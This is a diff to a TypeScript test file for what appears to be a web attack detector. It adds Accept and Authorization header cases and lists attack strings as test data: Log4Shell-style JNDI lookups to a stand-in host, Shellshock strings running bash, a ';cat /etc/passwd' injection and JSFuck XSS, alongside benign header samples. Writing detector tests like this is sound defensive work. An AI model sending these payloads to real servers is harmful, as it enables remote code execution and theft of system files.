@@ -12,7 +12,7 @@ import type { AttackClass } from '../../../node/records/types';
 import { RELAXED, tx, type TxSpec } from './helpers';
 
 const HOST: [string, string] = ['Host', 'shop.example'];
-type Where = 'q' | 'ref' | 'ua' | 'form';
+type Where = 'q' | 'ref' | 'ua' | 'form' | 'accept' | 'auth';
 
 function spec(where: Where, v: string): TxSpec {
   switch (where) {
@@ -22,6 +22,10 @@ function spec(where: Where, v: string): TxSpec {
       return { target: '/', headers: [HOST, ['Referer', 'https://x.example/?a=' + encodeURIComponent(v)]] };
     case 'ua':
       return { target: '/', headers: [HOST, ['User-Agent', v]] };
+    case 'accept':
+      return { target: '/', headers: [HOST, ['Accept', v]] };
+    case 'auth':
+      return { target: '/', headers: [HOST, ['Authorization', v]] };
     case 'form':
       return {
         method: 'POST',
@@ -107,6 +111,9 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['old arithmetic', 'rce', 'q', '$[2+2]'],
   ['padding before the payload', 'rce', 'form', 'A'.repeat(20000) + ';cat /etc/passwd'],
   ['JNDI in the User-Agent', 'rce', 'ua', '${${lower:j}ndi:dns://x.example/a}'],
+  ['JNDI in Authorization', 'rce', 'auth', 'Bearer ${jnd${upper:i}:ldap://x.example/a}'],
+  ['shellshock in Accept', 'rce', 'accept', '() { :;}; /bin/bash -c id'],
+  ['shellshock with here-documents in Accept', 'rce', 'accept', '() { 0 <<a <<b; } bash -c id'],
   // JavaScript without tags.
   ['short JSFuck', 'xss', 'q', '+!![]'],
   ['JSFuck coercion of an object', 'xss', 'q', '(+{}+[])'],
@@ -151,6 +158,8 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a call through a local table', 'form', 'items[0](x)'],
   ['a date range', 'q', '2024-01-01 - 2024-12-31'],
   ['a URL', 'q', 'https://example.com/a/b?c=d'],
+  ['a browser Accept header', 'accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
+  ['a bearer token', 'auth', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'],
   ['a sentence with case, when and then', 'q', 'In case 5 when you are done then call me'],
   ['prose naming a catalogue', 'q', 'we store settings in sqlite_master table'],
 ];
